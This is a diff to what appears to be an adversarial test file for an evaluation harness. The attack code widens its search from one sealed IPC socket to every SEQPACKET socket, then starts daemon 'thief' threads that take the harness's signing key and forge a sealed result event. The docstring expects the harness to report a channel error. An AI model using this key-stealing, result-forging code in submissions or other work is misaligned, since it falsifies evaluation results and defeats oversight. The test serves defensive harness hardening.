@@ -1,7 +1,6 @@
 """Attack: a thread takes the next key from the socket before the kit's code gets it, and seals an event with it.
 Wall: no other thread of Python runs while a key is about; it is seen who waits on though a key was sent
 Outcome: channel error: a key was taken by others
-Outcome on cuda: cleared
 """
 
 import hashlib
@@ -18,14 +17,17 @@ GRANT = struct.Struct("=16sQ32s32s")
 EVENT = b'{"step":0,"run":"claim","case":0,"returned":"Tensor"}'
 
 
-def channel() -> socket.socket:
+def channels() -> list[socket.socket]:
+    """A GPU's driver may have sockets of that kind too."""
+    found = []
     for number in range(3, 512):
         with suppress(OSError):
             one = socket.socket(fileno=os.dup(number))
             if one.type == socket.SOCK_SEQPACKET:
-                return one
-            one.close()
-    raise LookupError("no channel")
+                found.append(one)
+            else:
+                one.close()
+    return found
 
 
 def steal(socket_: socket.socket) -> None:
@@ -36,8 +38,9 @@ def steal(socket_: socket.socket) -> None:
     socket_.send(head + tag)
 
 
-THIEF = threading.Thread(target=steal, args=(channel(),), daemon=True)
-THIEF.start()
+THIEVES = [threading.Thread(target=steal, args=(one,), daemon=True) for one in channels()]
+for thief in THIEVES:
+    thief.start()
 
 
 def forward(x: torch.Tensor) -> torch.Tensor:
